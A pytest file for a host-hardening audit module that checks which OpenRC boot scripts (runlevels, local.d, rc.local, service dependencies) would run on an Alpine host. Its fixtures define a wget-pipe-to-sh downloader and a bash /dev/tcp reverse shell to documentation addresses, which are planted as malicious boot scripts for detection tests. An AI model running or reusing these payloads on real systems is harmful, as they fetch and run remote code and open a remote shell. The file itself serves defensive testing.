"""Boot scripts on an OpenRC host (Alpine layout, tests/openrc_tree.py): what runs at boot is what
the runlevels enable (rc-update), local.d runs only with the local service; systemd hosts unchanged."""
import json
import os

from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron
from ansible_collections.hostguard.hardening.plugins.module_utils.cron import openrc
from cron_tree import base_tree, write
from openrc_tree import RC_ADD, alpine_tree, rc_add

DOWNLOADER = "#!/bin/sh\nwget -q -O- http://203.0.113.7/x.sh | sh\n"
REVERSE_SHELL = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.8/4444 0>&1\n"
BENIGN = "#!/bin/sh\necho 1 > /proc/sys/net/ipv4/ip_forward\n"


def run(root):
    result = cron.audit({"root": str(root)})
    json.dumps(result)
    return result


def entry(result, path):
    found = [f for f in result["files"] if f["path"] == path]
    assert found, path
    return found[0]["would_run"]["debian"]


def failed(result, check_id, subject):
    return [f for f in result["findings"] if f["id"] == check_id and f["status"] == "fail"
            and f["subject"] == subject]


def test_alpine_install_runlevels_decide_what_runs_at_boot(tmp_path):
    alpine_tree(tmp_path)
    result = run(tmp_path)
    state = result["facts"]["openrc"]
    assert state["detected"] is True
    for name, level in RC_ADD:
        assert level in state["enabled"][name], name
        verdict = entry(result, "/etc/init.d/" + name)
        assert verdict["would_run"] is True and verdict["code"] == "ENABLED", (name, verdict)
    for name in ("networking", "firstboot", "crond", "local", "swap"):   # installed, not enabled
        verdict = entry(result, "/etc/init.d/" + name)
        assert verdict["would_run"] is False and verdict["code"] == "NOT_ENABLED", (name, verdict)
        assert "present only" in verdict["reason"]
    # the package's README in local.d is neither run nor a rejection finding
    assert entry(result, "/etc/local.d/README")["code"] == "LEFTOVER_NAME"
    # nor are insserv's dependency files (Debian's sysvinit/openrc: /etc/init.d/.depend.*, 0644)
    write(tmp_path, "etc/init.d/.depend.boot", "TARGETS = hostname.sh\n", mode=0o644)
    result = run(tmp_path)
    assert entry(result, "/etc/init.d/.depend.boot")["code"] == "LEFTOVER_NAME"
    assert not [f for f in result["findings"] if f["status"] == "fail"]


def test_planted_scripts_enabled_versus_present_only(tmp_path):
    alpine_tree(tmp_path)
    write(tmp_path, "etc/init.d/sysupdate", DOWNLOADER, mode=0o755)        # present only
    write(tmp_path, "etc/init.d/netcheck", REVERSE_SHELL, mode=0o755)      # enabled in default
    rc_add(tmp_path, "netcheck", "default")
    write(tmp_path, "etc/local.d/10-fetch.start", DOWNLOADER, mode=0o755)
    write(tmp_path, "etc/local.d/20-shell.stop", REVERSE_SHELL, mode=0o755)
    write(tmp_path, "etc/local.d/30-forward.start", BENIGN, mode=0o755)
    write(tmp_path, "etc/local.d/40-off.start", BENIGN, mode=0o644)
    result = run(tmp_path)
    assert entry(result, "/etc/init.d/sysupdate")["would_run"] is False
    assert entry(result, "/etc/init.d/netcheck")["would_run"] is True
    # both are malicious whatever their state; the finding says who would run them
    assert failed(result, "HG-CRON-010", "/etc/init.d/sysupdate")[0]["evidence"]["would_run"] == []
    assert failed(result, "HG-CRON-010", "/etc/init.d/netcheck")[0]["evidence"]["would_run"] == ["cronie", "debian"]
    # local is not enabled on an Alpine install: nothing in local.d runs
    for name in ("10-fetch.start", "20-shell.stop", "30-forward.start"):
        assert entry(result, "/etc/local.d/" + name)["code"] == "NOT_ENABLED", name
    assert failed(result, "HG-CRON-010", "/etc/local.d/10-fetch.start")
    assert failed(result, "HG-CRON-010", "/etc/local.d/20-shell.stop")
    assert not failed(result, "HG-CRON-010", "/etc/local.d/30-forward.start")
    # rc-update add local default: *.start at boot, *.stop at shutdown, non-executable never
    rc_add(tmp_path, "local", "default")
    result = run(tmp_path)
    assert entry(result, "/etc/local.d/10-fetch.start")["would_run"] is True
    assert entry(result, "/etc/local.d/30-forward.start")["would_run"] is True
    stop = entry(result, "/etc/local.d/20-shell.stop")
    assert stop["would_run"] is True and "stops" in stop["reason"]
    assert entry(result, "/etc/local.d/40-off.start")["code"] == "NOT_EXECUTABLE"
    assert failed(result, "HG-CRON-010", "/etc/local.d/10-fetch.start")[0]["evidence"]["would_run"]


def test_needed_services_start_with_enabled_ones(tmp_path):
    alpine_tree(tmp_path)
    write(tmp_path, "etc/init.d/webapp", "#!/sbin/openrc-run\ndepend() {\n\tneed net helperd\n}\n", mode=0o755)
    write(tmp_path, "etc/init.d/helperd", DOWNLOADER, mode=0o755)
    rc_add(tmp_path, "webapp", "default")
    result = run(tmp_path)
    helper = entry(result, "/etc/init.d/helperd")
    assert helper["would_run"] is True and "needed by webapp" in helper["reason"]


def test_other_levels_dangling_links_and_ignored_names(tmp_path):
    alpine_tree(tmp_path)
    rc_add(tmp_path, "networking", "nonetwork")           # a level no boot enters
    os.symlink("/etc/init.d/gone", str(tmp_path / "etc/runlevels/default/gone"))
    write(tmp_path, "etc/init.d/mountall.sh", "#!/bin/sh\n", mode=0o755)      # Debian's names
    os.symlink("/etc/init.d/mountall.sh", str(tmp_path / "etc/runlevels/sysinit/mountall.sh"))
    write(tmp_path, "etc/init.d/hidden", "#!/bin/sh\n", mode=0o755)
    os.symlink("/etc/init.d/hidden", str(tmp_path / "etc/runlevels/default/.hidden"))
    state = openrc.load(str(tmp_path))
    assert "gone" not in state["enabled"] and "hidden" not in state["enabled"]
    assert state["enabled"]["mountall.sh"] == ["sysinit"]
    assert any("gone" in p and "dangling" in p for p in state["problems"])
    result = run(tmp_path)
    networking = entry(result, "/etc/init.d/networking")
    assert networking["would_run"] is False and "nonetwork" in networking["reason"]
    assert entry(result, "/etc/init.d/mountall.sh")["would_run"] is True
    assert entry(result, "/etc/init.d/hidden")["would_run"] is False


def test_rc_local_on_openrc_runs_only_through_a_service(tmp_path):
    alpine_tree(tmp_path)
    write(tmp_path, "etc/rc.local", DOWNLOADER, mode=0o755)
    assert entry(run(tmp_path), "/etc/rc.local")["code"] == "NOT_ENABLED"
    write(tmp_path, "etc/init.d/rc.local", "#!/sbin/openrc-run\n", mode=0o755)   # Debian's initscripts
    rc_add(tmp_path, "rc.local", "default")
    assert entry(run(tmp_path), "/etc/rc.local")["would_run"] is True


def test_systemd_host_unchanged_and_local_d_not_read_there(tmp_path):
    base_tree(tmp_path)
    write(tmp_path, "etc/init.d/anything", "#!/bin/sh\n", mode=0o755)
    write(tmp_path, "etc/local.d/x.start", DOWNLOADER, mode=0o755)
    os.makedirs(str(tmp_path / "etc/runlevels/default"))          # no openrc binary: not OpenRC
    result = run(tmp_path)
    assert result["facts"]["openrc"]["detected"] is False
    assert entry(result, "/etc/init.d/anything")["code"] == "ACCEPTED"
    assert entry(result, "/etc/local.d/x.start")["code"] == "NOT_THIS_INIT"
    assert failed(result, "HG-CRON-010", "/etc/local.d/x.start")


def test_need_lines_read_without_a_regex(tmp_path):
    # `need` words up to a comment; `needs`/`need#` are no need lines; a long run of blanks is fine
    write(tmp_path, "etc/init.d/svc", "depend() {\n\tneed net dbus # and a comment need x\n"
          "\tneeds nothing\n\tneed#x\n\tneed " + " " * 500 + "logger\n}\n", mode=0o755)
    assert openrc._needs(str(tmp_path), "/etc/init.d/svc") == ["net", "dbus", "logger"]
